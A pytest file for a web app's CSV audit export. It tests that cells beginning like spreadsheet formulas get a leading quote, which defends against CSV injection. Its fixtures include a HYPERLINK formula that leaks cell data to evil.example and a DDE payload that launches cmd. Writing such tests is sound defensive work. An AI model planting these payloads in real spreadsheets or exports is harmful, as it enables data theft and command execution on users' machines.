"""Issue 12, "Closed to strangers": CSV cells that a spreadsheet would run as a formula
(starting with `=`, `+`, `-`, `@`, a tab or a carriage return) are neutralised with a leading
`'` — correction reasons in the audit CSV included (OWASP, "CSV Injection").
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from test_audit_web import LEDGER_ENGINE, SETUP, entry

from companion.app import create_app
from companion.security import spreadsheet_safe

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your score")'
SHORT_FORMULA = '=HYPERLINK("http://evil.example","Ana")'
REASONS = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1 for a slip", "-2 miscounted", "\tx", "\rx"]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def is_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_gets_a_quote(start: str) -> None:
    assert spreadsheet_safe(f"{start}1") == f"'{start}1"


def test_other_cells_and_numbers_are_unchanged() -> None:
    assert spreadsheet_safe("Contract G03 fulfilled") == "Contract G03 fulfilled"
    assert spreadsheet_safe(-4) == -4 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("") == ""


def test_correction_reasons_in_the_audit_csv_are_text(tmp_path: Path) -> None:
    app = create_app({"DATABASE": str(tmp_path / "csv.db"), "ENGINE": LEDGER_ENGINE,
                      "TESTING": True, "SECRET_KEY": "test-only"})  # fmt: skip
    client = app.test_client()
    game_id = client.post("/api/games", json={"title": "T", "setup": SETUP}).get_json()["game"][
        "id"
    ]
    for version, reason in enumerate(REASONS):
        command = {"type": "score", "player": "usa", "vp": 2, "category": "correction",
                   "reason": reason}  # fmt: skip
        answer = client.post(f"/api/games/{game_id}/commands",
                             json={"command": command, "version": version})  # fmt: skip
        assert answer.status_code == 200, answer.get_json()
    rows = rows_of(client.get(f"/api/audit/games/{game_id}/export.csv").get_data(as_text=True))
    assert not [cell for row in rows for cell in row if is_formula(cell)]
    ledger = [row[7] for row in rows if row[0] == "ledger" and row[5] == "correction"]
    assert ledger == ["'" + reason for reason in REASONS]
    log = [row[7] for row in rows if row[0] == "log"]
    assert "'" + HYPERLINK in log


def test_names_in_the_standalone_csv_are_text(tmp_path: Path) -> None:
    app = create_app({"DATABASE": str(tmp_path / "csv.db"), "TESTING": True,
                      "SECRET_KEY": "test-only"})  # fmt: skip
    body = entry()
    body["players"][0]["name"] = SHORT_FORMULA  # a name is at most 40 characters
    response = app.test_client().post("/api/audit/standalone/export.csv", json=body)
    assert response.status_code == 200, response.get_json()
    rows = rows_of(response.get_data(as_text=True))
    assert "'" + SHORT_FORMULA in [row[2] for row in rows if len(row) > 2]
    assert not [cell for row in rows for cell in row if is_formula(cell)]
